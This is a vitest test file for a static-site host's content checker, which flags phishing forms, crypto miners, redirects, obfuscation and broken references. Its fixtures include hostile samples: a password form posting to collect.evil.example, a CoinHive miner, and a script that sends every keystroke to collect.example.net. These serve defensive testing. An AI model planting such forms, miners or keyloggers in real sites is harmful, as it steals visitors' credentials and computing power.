/**
 * The content check (review issue item 4): computed at ingest for each version, stored with it,
 * shown in full on the review detail (GET /api/admin/projects/{id}) and as a badge in the review
 * list. Small hostile and benign sites are made here; the checker itself is also driven directly
 * for its caps and for hostile input that must not stall the event loop.
 */

import { createHash } from 'node:crypto';
import type { ContentCheckReport, ContentFinding } from '@sitehall/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  checkSiteContent,
  contentCheckWorkers,
  type SiteFile,
  TraceCache,
} from '../src/content-check/index.js';
import { mergeRuntime } from '../src/content-check/runtime.js';
import { emptyObservations } from '../src/render/render-page.js';
import { createTestApp, SIMPLE_SITE, type TestApp, type UploadFile, uploadProject } from './helpers.js';

let t: TestApp;
let owner: { token: string };
beforeAll(async () => {
  t = await createTestApp();
  owner = await t.createUser();
});
afterAll(() => t.close());

async function upload(files: UploadFile[], name = '检查项目'): Promise<number> {
  const res = await uploadProject(t, owner.token, { name, files });
  if (res.statusCode !== 201) throw new Error(`upload failed: ${res.statusCode} ${res.body}`);
  return res.json().data.project.id;
}

async function checkOf(id: number): Promise<ContentCheckReport> {
  const res = await t.request({ url: `/api/admin/projects/${id}`, token: await t.adminToken() });
  expect(res.statusCode, res.body).toBe(200);
  return res.json().data.content_check;
}

const pick = (r: ContentCheckReport, kind: string) => r.findings.filter((f) => f.kind === kind);

describe('sites made in the tests', () => {
  it('a clean site has no findings and a clean badge', async () => {
    const id = await upload([
      ...SIMPLE_SITE,
      {
        name: 'about.html',
        content: '<a href="index.html">首页</a> <a href="https://example.org/">外部链接</a>',
      },
      { name: 'js/app.js', content: 'document.querySelector("h1").textContent = "你好";\n' },
      { name: 'data.json', content: '{"ok": true}' },
    ]);
    const report = await checkOf(id);
    expect(report).toMatchObject({
      version: 2,
      level: 'clean',
      counts: { high: 0, medium: 0, low: 0, info: 0 },
      findings: [],
      usability_count: 0,
      omitted_findings: 0,
      external_domains: {
        scripts: [],
        stylesheets: [],
        frames: [],
        forms: [],
        redirects: [],
        script_hosts: [],
      },
      scanned_files: 5,
      partially_scanned_files: [],
    });
    expect(report.largest_files).toHaveLength(5);
    expect(report.largest_files[0]).toEqual({
      file: 'index.html',
      size: Buffer.byteLength(SIMPLE_SITE[0]!.content),
    });
    const sizes = report.largest_files.map((f) => f.size);
    expect(sizes).toEqual([...sizes].sort((a, b) => b - a));
    const list = await t.request({ url: '/api/admin/projects?search=检查', token: await t.adminToken() });
    const row = list.json().data.projects.find((p: { id: number }) => p.id === id);
    expect(row.content_check).toEqual({
      level: 'clean',
      counts: { high: 0, medium: 0, low: 0, info: 0 },
      reason: '自动检查未发现已知风险。',
      usability_problems: 0,
    });
  });

  it('flags a password form that posts to another domain as high, with file and line', async () => {
    const id = await upload([
      {
        name: 'index.html',
        content: [
          '<!doctype html>',
          '<html><body>',
          '<h1>银行登录</h1>',
          '<form method="post" action="https://collect.evil.example/steal">',
          '  <input name="user">',
          '  <input type="password" name="pass">',
          '</form>',
          '</body></html>',
        ].join('\n'),
      },
    ]);
    const report = await checkOf(id);
    expect(report.level).toBe('high');
    expect(pick(report, 'password_form')).toEqual<ContentFinding[]>([
      {
        severity: 'high',
        category: 'risk',
        kind: 'password_form',
        rule: 'form.password-external',
        message: '表单收集密码并提交到外部域名 collect.evil.example：疑似钓鱼',
        file: 'index.html',
        line: 4,
        excerpt: '<form method="post" action="https://collect.evil.example/steal">',
      },
    ]);
    expect(report.external_domains.forms).toEqual(['collect.evil.example']);
    const list = await t.request({ url: '/api/admin/projects?status=pending', token: await t.adminToken() });
    const row = list.json().data.projects.find((p: { id: number }) => p.id === id);
    // The review list says why in one sentence: the finding that decided the level.
    expect(row.content_check).toEqual({
      level: 'high',
      counts: { high: 1, medium: 0, low: 0, info: 0 },
      reason: `判为高风险，几乎可以肯定有恶意：${report.findings.find((f) => f.severity === 'high')!.message}。`,
      usability_problems: 0,
    });
    expect(row.content_check.reason).toContain('collect.evil.example');
  });

  it('scores forms: a demo login is low, a POST elsewhere medium, a search box or form service information', async () => {
    const id = await upload([
      {
        name: 'index.html',
        content: [
          '<form action="#"><input name="u"><input type="password"></form>',
          '<form action="//search.example.com/q"><input name="q"></form>',
          '<form method="post" action="https://api.example.net/contact"><input name="msg"></form>',
          '<form method="post" action="https://formspree.io/f/abc"><input name="email"></form>',
        ].join('\n'),
      },
    ]);
    const report = await checkOf(id);
    expect(report.findings.map((f) => [f.severity, f.rule, f.line])).toEqual([
      ['medium', 'form.external-post', 3],
      ['low', 'form.password-demo', 1],
      ['info', 'form.external-get', 2],
      ['info', 'form.service', 4],
    ]);
    expect(report.level).toBe('medium');
    expect(report.external_domains.forms).toEqual(['api.example.net', 'formspree.io', 'search.example.com']);
  });

  it('flags an external crypto-miner script and its start-up code', async () => {
    const id = await upload([
      {
        name: 'index.html',
        content: [
          '<html><head>',
          '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
          '<script src="js/start.js"></script>',
          '</head><body>游戏</body></html>',
        ].join('\n'),
      },
      { name: 'js/start.js', content: "var miner = new CoinHive.Anonymous('SITE_KEY');\nminer.start();\n" },
    ]);
    const report = await checkOf(id);
    expect(report.level).toBe('high');
    expect(pick(report, 'crypto_miner')).toEqual([
      expect.objectContaining({ severity: 'high', file: 'index.html', line: 2 }),
      expect.objectContaining({ severity: 'high', file: 'js/start.js', line: 1 }),
    ]);
    expect(pick(report, 'external_script')).toEqual([
      expect.objectContaining({
        severity: 'low',
        kind: 'external_script',
        message: '引用外部脚本：coinhive.com',
        file: 'index.html',
        line: 2,
      }),
    ]);
    expect(report.external_domains.scripts).toEqual(['coinhive.com']);
  });

  it('flags root-absolute links, sources and CSS urls that break under /sites/{id}/', async () => {
    const id = await upload([
      {
        name: 'index.html',
        content: [
          '<link rel="stylesheet" href="/css/site.css">',
          '<a href="/about.html">关于</a>',
          '<img src="/img/logo.png" srcset="img/logo.png 1x, /img/logo@2x.png 2x">',
          '<a href="about.html">相对链接</a> <a href="//cdn.example.com/x">协议相对</a> <a href="#top">锚点</a>',
        ].join('\n'),
      },
      { name: 'about.html', content: '<p>关于</p>' },
      { name: 'css/site.css', content: 'body {\n  margin: 0;\n  background: url("/img/bg.png");\n}\n' },
    ]);
    const report = await checkOf(id);
    const found = pick(report, 'root_absolute_link').map((f) => [f.file, f.line, f.severity]);
    // Info: they load through the sites host's root rescue; some pages and routers still break.
    expect(found).toEqual([
      ['css/site.css', 3, 'info'],
      ['index.html', 1, 'info'],
      ['index.html', 2, 'info'],
      ['index.html', 3, 'info'],
      ['index.html', 3, 'info'],
    ]);
    expect(pick(report, 'root_absolute_link')[1]!.message).toContain('“/css/site.css”');
  });

  it('flags redirects to other domains, obfuscation, and content that does not match its extension', async () => {
    const payload = Buffer.from('alert("x")'.repeat(30)).toString('base64');
    const id = await upload([
      {
        name: 'index.html',
        content: '<meta http-equiv="refresh" content="0; url=https://phish.example.net/">',
      },
      {
        name: 'go.html',
        content: '<script>\nwindow.location.href = "https://other.example.org/landing";\n</script>',
      },
      { name: 'packed.js', content: `var a = 1;\neval(atob("${payload}"));\n` },
      { name: 'notes.txt', content: '<!DOCTYPE html><html><body>伪装成文本的页面</body></html>' },
      { name: 'broken.json', content: '{"a": ' },
      {
        name: 'logo.svg',
        content: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      },
    ]);
    const report = await checkOf(id);
    const summary = report.findings.map((f) => [f.severity, f.kind, f.file, f.line]);
    // Risk findings first (they decide the level), then usability ones.
    expect(summary).toEqual([
      ['high', 'redirect', 'index.html', 1],
      ['medium', 'redirect', 'go.html', 2],
      ['medium', 'svg_script', 'logo.svg', 1],
      ['medium', 'obfuscation', 'packed.js', 2],
      ['medium', 'type_mismatch', 'notes.txt', 1],
      ['low', 'type_mismatch', 'broken.json', null],
    ]);
    expect(report.findings.map((f) => f.category)).toEqual([
      'risk',
      'risk',
      'risk',
      'risk',
      'usability',
      'usability',
    ]);
    expect(report.external_domains.redirects).toEqual(['other.example.org', 'phish.example.net']);
    expect(report.counts).toEqual({ high: 1, medium: 3, low: 0, info: 0 });
    expect(report.usability_count).toBe(2);
  });

  it('flags a site without an entry page, and external styles and frames with their domains', async () => {
    const id = await upload([
      {
        name: 'a.html',
        content:
          '<link rel="stylesheet" href="https://fonts.example.com/css">\n<iframe src="https://video.example.com/embed/1"></iframe>',
      },
      { name: 'b.html', content: '<p>b</p>' },
    ]);
    const report = await checkOf(id);
    expect(report.findings).toEqual([
      expect.objectContaining({ severity: 'low', kind: 'external_frame', file: 'a.html', line: 2 }),
      expect.objectContaining({ severity: 'info', kind: 'external_stylesheet', file: 'a.html', line: 1 }),
      expect.objectContaining({
        severity: 'medium',
        category: 'usability',
        kind: 'missing_entry',
        message: '未找到入口文件（index.html）：站点根地址无法打开',
        file: null,
        line: null,
      }),
    ]);
    expect(report.level).toBe('low');
    expect(report.external_domains).toMatchObject({
      stylesheets: ['fonts.example.com'],
      frames: ['video.example.com'],
    });
  });

  it('is stored with the version at upload, and made again for a version stored without one', async () => {
    const id = await upload(
      [
        {
          name: 'index.html',
          content: '<form method="post" action="https://x.example/a"><input name="q"></form>',
        },
      ],
      '补做检查',
    );
    const row = () =>
      t.ctx.db
        .selectFrom('deployments')
        .select(['id', 'content_check'])
        .where('project_id', '=', id)
        .executeTakeFirstOrThrow();
    const stored = await row();
    expect(JSON.parse(stored.content_check!)).toMatchObject({ version: 2, level: 'medium' });

    // A version stored before the check existed: no badge until its review detail is opened.
    await t.ctx.db
      .updateTable('deployments')
      .set({ content_check: null, content_risk: null })
      .where('id', '=', stored.id)
      .execute();
    const badge = async () =>
      (await t.request({ url: '/api/admin/projects?search=补做检查', token: await t.adminToken() })).json()
        .data.projects[0].content_check;
    expect(await badge()).toBeNull();
    const report = await checkOf(id);
    expect(report).toMatchObject({ level: 'medium', counts: { medium: 1 } });
    expect(JSON.parse((await row()).content_check!)).toMatchObject({ level: 'medium' });
    expect(await badge()).toMatchObject({ level: 'medium', counts: { high: 0, medium: 1, low: 0, info: 0 } });
    expect((await badge())?.reason).toMatch(/^判为中风险，请人工查看：/);
  });

  it('checks each new version on its own', async () => {
    const id = await upload([{ name: 'index.html', content: '<p>干净</p>' }]);
    await t.request({
      method: 'POST',
      url: `/api/admin/projects/${id}/review`,
      token: await t.adminToken(),
      body: { action: 'approve' },
    });
    const v2 = await uploadProject(t, owner.token, {
      projectId: id,
      files: [{ name: 'index.html', content: '<script src="https://evil.example/x.js"></script>' }],
    });
    expect(v2.statusCode).toBe(200);
    const res = await t.request({ url: `/api/admin/projects/${id}`, token: await t.adminToken() });
    expect(res.json().data).toMatchObject({
      content_check_version: 2,
      content_check: { level: 'low', external_domains: { scripts: ['evil.example'] } },
    });
  });
});

/** An in-memory site for the checker itself. */
function site(files: Record<string, string | Buffer>): SiteFile[] {
  return Object.entries(files).map(([path, content]) => {
    const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content);
    return {
      path,
      size: bytes.length,
      extension: path.slice(path.lastIndexOf('.') + 1),
      read: async (n: number) => bytes.subarray(0, n),
    };
  });
}

describe('the checker', () => {
  it('lists at most 10 findings of one kind per file, and counts them all', async () => {
    const links = Array.from({ length: 50 }, (_, i) => `<a href="/p${i}.html">${i}</a>`).join('\n');
    const pages = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`p${i}.html`, '<p>x</p>']));
    const report = await checkSiteContent(site({ 'index.html': links, ...pages }), 'index.html');
    expect(report.usability_count).toBe(50);
    expect(report.level).toBe('clean');
    expect(report.findings).toHaveLength(10);
    expect(report.omitted_findings).toBe(40);
    expect(report.findings.map((f) => f.line)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
  });

  it('reports references to files the upload does not have, as the server would look them up', async () => {
    const report = await checkSiteContent(
      site({
        'index.html': [
          '<link rel="stylesheet" href="css/app.css">',
          '<link rel="stylesheet" href="css/missing.css?v=2">',
          '<script src="./js/app.js"></script>',
          '<img src="img/%E5%9B%BE.png" srcset="img/logo.png 1x, img/logo@2x.png 2x">',
          '<a href="docs/">文档</a> <a href="docs">文档</a> <a href="blog/">博客</a>',
          '<a href="#top">顶部</a> <a href="mailto:a@example.org">信</a> <a href="tel:110">电话</a>',
          '<img src="data:image/png;base64,AAAA"> <a href="{{ url }}">模板</a> <a href="?page=2">下页</a>',
          '<a href="../outside.html">站外</a> <a href="https://example.org/x.html">外部</a>',
        ].join('\n'),
        'css/app.css': '.a { background: url("../img/bg.png") } .b { background: url(../img/none.png) }',
        'js/app.js': 'console.log(1)',
        'img/图.png': 'x',
        'img/logo.png': 'x',
        'img/bg.png': 'x',
        'docs/index.html': '<a href="../index.html">回到首页</a> <a href="guide.html#part">指南</a>',
      }),
      'index.html',
    );
    const missing = pick(report, 'missing_file')
      .map((f) => [f.file, f.line, f.message])
      .sort((a, b) => String(a[0]).localeCompare(String(b[0])) || Number(a[1]) - Number(b[1]));
    expect(missing).toEqual([
      ['css/app.css', 1, '引用的文件不在上传内容中：“../img/none.png”，打开页面时会加载失败'],
      ['docs/index.html', 1, '引用的文件不在上传内容中：“guide.html#part”，打开页面时会加载失败'],
      ['index.html', 2, '引用的文件不在上传内容中：“css/missing.css?v=2”，打开页面时会加载失败'],
      ['index.html', 4, '引用的文件不在上传内容中：“img/logo@2x.png”，打开页面时会加载失败'],
      ['index.html', 5, '引用的文件不在上传内容中：“blog/”，打开页面时会加载失败'],
    ]);
    expect(pick(report, 'missing_file').every((f) => f.severity === 'low')).toBe(true);
  });

  it('does not judge relative references after a <base href>', async () => {
    const report = await checkSiteContent(
      site({ 'index.html': '<base href="https://cdn.example.org/site/"><img src="img/a.png">' }),
      'index.html',
    );
    expect(pick(report, 'missing_file')).toEqual([]);
  });

  it('does not report root paths when sites have their own host (they work there)', async () => {
    const report = await checkSiteContent(
      site({ 'index.html': '<a href="/about.html">x</a>' }),
      'index.html',
      {
        rootPathsWork: true,
      },
    );
    expect(report.level).toBe('clean');
  });

  it('reads within its per-file and total budgets and says which files it read only in part', async () => {
    const files = site({
      'a.html': `${'<p>填充</p>\n'.repeat(200)}<a href="/late.html">x</a>`,
      'b.html': '<a href="/b.html">b</a>',
    });
    const report = await checkSiteContent(files, 'a.html', { maxBytesPerFile: 512, maxBytesTotal: 512 });
    // The small page is read first (and whole); the large one gets what is left.
    expect(report.partially_scanned_files).toEqual(['a.html']);
    expect(report.level).toBe('clean');
  });

  it('shares its budget out pages and scripts first, smallest first: large files named first hide nothing', async () => {
    const filler = `${'<p>填充内容</p>\n'.repeat(60)}`;
    const files = site({
      'a1.html': filler,
      'a2.html': filler,
      'a3.html': filler,
      'notes.txt': 'x'.repeat(2000),
      'zz.html': '<a href="https://x.example/setup.exe">下载</a>',
    });
    const report = await checkSiteContent(files, 'a1.html', { maxBytesPerFile: 4096, maxBytesTotal: 2048 });
    expect(pick(report, 'executable_download').map((f) => f.file)).toEqual(['zz.html']);
    expect(report.level).toBe('high');
  });

  it('ignores comments, and finds tags whatever their case or quoting', async () => {
    const report = await checkSiteContent(
      site({
        'index.html':
          '<!-- <script src="https://hidden.example/x.js"></script> -->\n<SCRIPT SRC=https://cdn.example.com/a.js></SCRIPT>\n<a href=\'&#47;entity.html\'>x</a>',
        'entity.html': '<p>x</p>',
      }),
      'index.html',
    );
    expect(report.findings.map((f) => [f.kind, f.line])).toEqual([
      ['external_script', 2],
      ['root_absolute_link', 3],
    ]);
    expect(report.external_domains.scripts).toEqual(['cdn.example.com']);
  });

  it('handles hostile input in linear time', async () => {
    const MB2 = 2 * 1024 * 1024;
    const hostile = site({
      'a.html': `<a ${'x'.repeat(MB2)}`,
      'b.html': '<'.repeat(MB2),
      'c.html': `<a href="${'"'.repeat(MB2)}`,
      'd.js': `${`eval("${'A'.repeat(199)}!`.repeat(5000)}${'location.href="//'.repeat(50_000)}`,
      'e.css': `url(${'('.repeat(MB2 / 2)}${'@import '.repeat(50_000)}`,
      'f.js': `${`"${'A'.repeat(1001)}`.repeat(1500)}eval(`,
      'g.js': `String.fromCharCode(${'1,'.repeat(MB2 / 2)}`,
    });
    // The reference, checked in the same conditions: ordinary files of the same kinds and sizes.
    // Quadratic work on 2 MB inputs would take hours, so a generous ratio still catches it, and a
    // busy machine slows both sides alike.
    const ordinary = site({
      'a.html': `<p>${'x '.repeat(MB2 / 2)}</p>`,
      'b.html': `<p>${'y '.repeat(MB2 / 2)}</p>`,
      'c.html': `<p>${'z '.repeat(MB2 / 2)}</p>`,
      'd.js': `let s = 0;\n${'s += 1;\n'.repeat(1_100_000 / 8)}`,
      'e.css': `${'p { color: red }\n'.repeat(MB2 / 18)}`,
      'f.js': `${'const a = 1;\n'.repeat(1_500_000 / 13)}`,
      'g.js': `${'const b = [1];\n'.repeat(MB2 / 15)}`,
    });
    const timed = async (files: SiteFile[]) => {
      // The scanning runs in a worker thread: the event loop keeps turning while it works.
      let last = performance.now();
      let worstGap = 0;
      const tick = setInterval(() => {
        const now = performance.now();
        worstGap = Math.max(worstGap, now - last);
        last = now;
      }, 10);
      const started = performance.now();
      const report = await checkSiteContent(files, 'a.html');
      clearInterval(tick);
      return { report, ms: performance.now() - started, worstGap };
    };
    const reference = await timed(ordinary);
    const run = await timed(hostile);
    expect(run.ms).toBeLessThan(Math.max(20 * reference.ms, 2_000));
    // Work on the main thread would stall it for the whole check; a busy machine's scheduling
    // stalls it for far less than a third of it.
    expect(run.worstGap).toBeLessThan(Math.max(1_000, run.ms / 3));
    expect(run.report.version).toBe(2);
  });

  it('reads a style hiding 500,000 selectors and six spreads of 100,000 char codes without overflowing the stack', async () => {
    // Each was spread into one call (push(...list), fromCharCode(...codes)): past some hundred
    // thousand arguments the stack overflows, and the page's check ended incomplete. 5,000 rules
    // of 100 selectors each (a rule's selector is read up to 300 characters) make 1.6 MB, under
    // the 2 MB a file is read to; 100,000 codes are the most a call is decoded from, spreads
    // included.
    const rules = `${'.h,'.repeat(99)}.h{display:none}`.repeat(5000);
    const codes = Array.from({ length: 100_000 }, () => '120').join(',');
    const report = await checkSiteContent(
      site({
        'index.html': `<style>${rules}</style><iframe class="h" src="https://frames.example/x"></iframe><script src="a.js"></script>`,
        'a.js': `const codes = [${codes}]; const s = String.fromCharCode(...codes, ...codes, ...codes, ...codes, ...codes, ...codes);`,
      }),
      'index.html',
    );
    expect(report.findings.map((f) => f.rule)).not.toContain('site.check-incomplete');
    expect(report.findings.map((f) => f.rule)).toContain('html.hidden-frame');
  });
});

describe('unchanged files are not scanned again', () => {
  /** Files with their SHA-256, as an upload or a deploy knows them; `reads` lists what was read. */
  function hashedSite(files: Record<string, string>, reads: string[]): SiteFile[] {
    return Object.entries(files).map(([path, content]) => {
      const bytes = Buffer.from(content);
      return {
        path,
        size: bytes.length,
        extension: path.slice(path.lastIndexOf('.') + 1),
        sha256: createHash('sha256').update(bytes).digest('hex'),
        read: async (n: number) => {
          reads.push(path);
          return bytes.subarray(0, n);
        },
      };
    });
  }
  const comparable = ({ checked_at: _, ...r }: ContentCheckReport) => r;

  it('reads only changed files, and reports what a full check reports', async () => {
    const traces = new TraceCache();
    const v1: Record<string, string> = {
      'index.html': '<!doctype html><a href="about.html">关于</a><script src="app.js"></script>',
      'about.html':
        '<!doctype html><form action="https://collect.example.net/"><input type="password"></form>',
      'app.js': 'console.log(1);',
      'style.css': 'body { color: red; }',
    };
    for (let i = 0; i < 20; i++) v1[`p/${i}.html`] = `<!doctype html><a href="../index.html">${i}</a>`;
    const check = async (files: Record<string, string>) => {
      const reads: string[] = [];
      const report = await checkSiteContent(hashedSite(files, reads), 'index.html', { traces });
      const full = await checkSiteContent(hashedSite(files, []), 'index.html', { traces: null });
      expect(comparable(report)).toEqual(comparable(full));
      return { report, reads: reads.sort() };
    };

    expect((await check(v1)).reads).toHaveLength(Object.keys(v1).length);
    const again = await check(v1);
    expect(again.reads).toEqual([]);
    expect(again.report.findings.some((f) => f.file === 'about.html' && f.severity === 'high')).toBe(true);

    // One file changed: only it is read.
    const v2: Record<string, string> = { ...v1, 'style.css': 'body { color: blue; }' };
    expect((await check(v2)).reads).toEqual(['style.css']);
    // A page whose link target is gone is read again (and now reports the missing file).
    const { 'about.html': _gone, ...v3 } = v2;
    const third = await check(v3);
    expect(third.reads).toEqual(['index.html']);
    expect(third.report.findings.filter((f) => f.rule === 'ref.missing-file').map((f) => f.file)).toEqual([
      'index.html',
    ]);
    // A page whose script now reads keystrokes and sends them elsewhere is read again with it.
    const v4 = {
      ...v3,
      'app.js':
        "addEventListener('keydown', (e) => fetch('https://collect.example.net/k', { method: 'POST', body: e.key }));",
    };
    expect((await check(v4)).reads).toEqual(['app.js', 'index.html']);
  });

  it('a check that ran out of time leaves the next one whole', async () => {
    const files: Record<string, string> = {
      'index.html': '<!doctype html><script src="https://coinhive.com/lib/coinhive.min.js"></script>',
    };
    const big = Object.fromEntries(
      Array.from({ length: 3000 }, (_, i) => [
        `p/${i}.js`,
        `var a${i} = ${JSON.stringify('x'.repeat(500))};`,
      ]),
    );
    const cut = await checkSiteContent(hashedSite({ ...files, ...big }, []), 'index.html', {
      timeoutMs: 5,
      traces: null,
    });
    expect(cut.findings.map((f) => f.rule)).toContain('site.check-incomplete');
    for (let i = 0; i < 3; i++) {
      const whole = await checkSiteContent(hashedSite(files, []), 'index.html');
      expect(whole.findings.map((f) => f.rule)).not.toContain('site.check-incomplete');
      expect(whole.level).toBe('high');
    }
  });

  it('a check out of time terminates its worker mid-scan and says the check is incomplete', async () => {
    // Each file takes acorn seconds (a million char codes), and each file may take all the time it
    // wants: only the check's own budget can end this one, and nothing the scan does asks it to.
    const slow = Object.fromEntries(
      Array.from({ length: 12 }, (_, i) => [`s/${i}.js`, `String.fromCharCode(${'1,'.repeat(600_000)}1);`]),
    );
    const cut = await checkSiteContent(hashedSite(slow, []), null, {
      timeoutMs: 300,
      maxMsPerFile: 600_000,
      traces: null,
    });
    expect(cut.findings.map((f) => f.rule)).toContain('site.check-incomplete');
    // Its thread is gone when the answer comes, not left scanning.
    expect(contentCheckWorkers().busy).toBe(0);
  });

  it('a page uploaded to another project without its linked file is checked against that project', async () => {
    const page = { name: 'index.html', content: '<!doctype html><a href="more.html">更多</a>' };
    await upload([page, { name: 'more.html', content: '<!doctype html><p>更多</p>' }], '完整项目');
    const id = await upload([page], '缺页项目');
    const missing = (await checkOf(id)).findings.filter((f) => f.rule === 'ref.missing-file');
    expect(missing.map((f) => f.file)).toEqual(['index.html']);
  });
});

describe('content check 2.0 over HTTP', () => {
  it('reads a backslash in a link as the browser does: works\\list.html is not missing', async () => {
    const id = await upload([
      {
        name: 'index.html',
        content: '<a href="works\\list.html">作品</a> <a href="works\\gone.html">旧作品</a>',
      },
      { name: 'works/list.html', content: '<p>列表</p>' },
    ]);
    const report = await checkOf(id);
    expect(pick(report, 'missing_file').map((f) => f.message)).toEqual([
      '引用的文件不在上传内容中：“works\\gone.html”，打开页面时会加载失败',
    ]);
  });

  it('shows the uploader the usability findings, on the upload result and the project detail', async () => {
    const res = await uploadProject(t, owner.token, {
      name: '可用性',
      files: [
        {
          name: 'index.html',
          content: '<script type="module" src="/assets/app.js"></script>\n<img src="img/x.png">',
        },
        { name: 'assets/app.js', content: 'console.log(1)' },
      ],
    });
    expect(res.statusCode).toBe(201);
    const project = res.json().data.project;
    expect(
      project.usability_findings.map((f: ContentFinding) => [f.kind, f.category, f.line, f.excerpt]),
    ).toEqual([
      ['missing_file', 'usability', 2, '<img src="img/x.png">'],
      ['root_absolute_link', 'usability', 1, '<script type="module" src="/assets/app.js"></script>'],
    ]);
    const detail = await t.request({ url: `/api/projects/${project.id}`, token: owner.token });
    expect(detail.json().data.project.usability_findings).toHaveLength(2);
    // Usability alone is no risk: the review badge stays clean.
    expect((await checkOf(project.id)).level).toBe('clean');
  });

  it('tells the owner who uploaded a whole project folder which subfolder holds the site', async () => {
    const res = await uploadProject(t, owner.token, {
      name: '整个项目',
      files: [
        { name: 'myapp/dist/index.html', content: '<!doctype html><p>构建结果</p>' },
        { name: 'myapp/dist/assets/app.js', content: 'console.log(1)' },
        { name: 'myapp/src/main.js', content: 'console.log(2)' },
        { name: 'myapp/README.md', content: '# myapp' },
        { name: 'myapp/package.json', content: '{"name":"myapp"}' },
      ],
    });
    expect(res.statusCode).toBe(201);
    const project = res.json().data.project;
    expect(project.entry_file).toBeNull();
    expect(
      project.usability_findings
        .filter((f: ContentFinding) => f.kind === 'missing_entry')
        .map((f: ContentFinding) => f.message),
    ).toEqual([
      '站点根目录没有 index.html，站点根地址无法打开。找到了 dist/index.html：请只上传 dist 文件夹里的内容',
    ]);
  });

  it('tells the owner of a site with a client-side router to turn on the SPA fallback, until it answers deep links', async () => {
    const withRender = async (id: number) => {
      const row = await t.ctx.db
        .selectFrom('deployments')
        .select(['id', 'content_check'])
        .where('project_id', '=', id)
        .orderBy('id', 'desc')
        .executeTakeFirstOrThrow();
      const report = JSON.parse(row.content_check!) as ContentCheckReport;
      const merged = mergeRuntime(
        report,
        { ...emptyObservations(), historyRouting: true },
        false,
        new Date().toISOString(),
      );
      await t.ctx.db
        .updateTable('deployments')
        .set({ content_check: JSON.stringify(merged) })
        .where('id', '=', row.id)
        .execute();
    };
    const routing = async (id: number) => {
      const res = await t.request({ url: `/api/projects/${id}`, token: owner.token });
      expect(res.statusCode, res.body).toBe(200);
      return (res.json().data.project.usability_findings as ContentFinding[])
        .filter((f) => f.kind === 'history_routing')
        .map((f) => [f.severity, f.message]);
    };
    const app = [
      { name: 'index.html', content: '<div id="app"></div><script src="app.js"></script>' },
      { name: 'app.js', content: 'addEventListener("popstate", () => {})' },
    ];
    const id = await upload(app, '前端路由');
    await withRender(id);
    expect(await routing(id)).toEqual([
      [
        'info',
        '页面用前端路由切换地址（History API）：项目未开启“单页应用回退”时，刷新或直接打开子页面（如 /about）会显示 404',
      ],
    ]);
    const on = await t.request({
      method: 'PUT',
      url: `/api/projects/${id}`,
      token: owner.token,
      body: { spa_fallback: true },
    });
    expect(on.statusCode, on.body).toBe(200);
    expect(await routing(id)).toEqual([]);
    // A 200 rewrite of the site's own _redirects answers deep links too.
    const own = await upload([...app, { name: '_redirects', content: '/*  /index.html  200\n' }], '自带回退');
    await withRender(own);
    expect(await routing(own)).toEqual([]);
  });

  it('sorts and filters the review list by risk level; the badge counts findings at its level', async () => {
    const admin = await t.adminToken();
    const tag = `风险排序${Date.now()}`;
    const high = await upload(
      [{ name: 'index.html', content: '<a href="https://x.example/setup.exe">下载</a>' }],
      `${tag}高`,
    );
    const medium = await upload(
      [
        {
          name: 'index.html',
          content:
            '<script>document.write(atob("PGI+aGk8L2I+"))</script><iframe src="https://v.example.com/1"></iframe>',
        },
      ],
      `${tag}中`,
    );
    const clean = await upload([{ name: 'index.html', content: '<p>你好</p>' }], `${tag}无`);
    const list = async (query: string) => {
      const res = await t.request({
        url: `/api/admin/projects?search=${encodeURIComponent(tag)}&${query}`,
        token: admin,
      });
      expect(res.statusCode, res.body).toBe(200);
      return res.json().data as {
        projects: Array<{ id: number; content_check: { level: string; counts: Record<string, number> } }>;
        pagination: { total_count: number };
      };
    };
    const byRisk = await list('sort=risk');
    expect(byRisk.projects.map((p) => p.id)).toEqual([high, medium, clean]);
    expect(byRisk.projects.map((p) => p.content_check.level)).toEqual(['high', 'medium', 'clean']);
    expect(byRisk.projects[1]!.content_check.counts).toMatchObject({ medium: 1, low: 1 });
    const onlyHigh = await list('risk=high');
    expect(onlyHigh.projects.map((p) => p.id)).toEqual([high]);
    expect(onlyHigh.pagination.total_count).toBe(1);
    expect((await list('risk=clean')).projects.map((p) => p.id)).toEqual([clean]);
    expect((await list('risk=unchecked')).projects).toEqual([]);
    const bad = await t.request({ url: '/api/admin/projects?risk=severe', token: admin });
    expect(bad.statusCode).toBe(400);
  });

  it('still shows a report stored before the risk/usability split (version 1)', async () => {
    const id = await upload([{ name: 'index.html', content: '<p>旧报告</p>' }], '旧版报告');
    const old = {
      version: 1,
      level: 'medium',
      counts: { high: 0, medium: 1, low: 1, info: 0 },
      checked_at: '2024-01-01T00:00:00.000Z',
      findings: [
        {
          severity: 'medium',
          kind: 'root_absolute_link',
          message: '以 / 开头…',
          file: 'index.html',
          line: 1,
        },
        {
          severity: 'low',
          kind: 'external_script',
          message: '引用外部脚本：cdn.example.com',
          file: 'index.html',
          line: 2,
        },
      ],
      omitted_findings: 0,
      external_domains: {
        scripts: ['cdn.example.com'],
        stylesheets: [],
        frames: [],
        forms: [],
        redirects: [],
      },
      largest_files: [],
      scanned_files: 1,
      partially_scanned_files: [],
    };
    await t.ctx.db
      .updateTable('deployments')
      .set({ content_check: JSON.stringify(old) })
      .where('project_id', '=', id)
      .execute();
    const report = await checkOf(id);
    expect(report).toMatchObject({
      version: 2,
      level: 'low',
      counts: { medium: 0, low: 1 },
      usability_count: 1,
    });
    expect(report.findings.map((f) => f.category)).toEqual(['usability', 'risk']);
    expect(report.external_domains.script_hosts).toEqual([]);
  });

  it('opens a text file of the newest version around a line for the reviewer (admin only)', async () => {
    const admin = await t.adminToken();
    const body = Array.from({ length: 100 }, (_, i) => `<p>${i + 1}</p>`).join('\r\n');
    const id = await upload([
      { name: 'index.html', content: `\ufeff${body}` },
      { name: 'img/a.png', content: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex') },
    ]);
    const source = (query: string, token = admin) =>
      t.request({ url: `/api/admin/projects/${id}/source?${query}`, token });
    const res = await source('path=index.html&line=50');
    expect(res.statusCode, res.body).toBe(200);
    const data = res.json().data;
    expect(data).toMatchObject({ path: 'index.html', version: 1, first_line: 10, truncated: false });
    expect(data.lines).toHaveLength(81);
    expect(data.lines[40]).toBe('<p>50</p>');
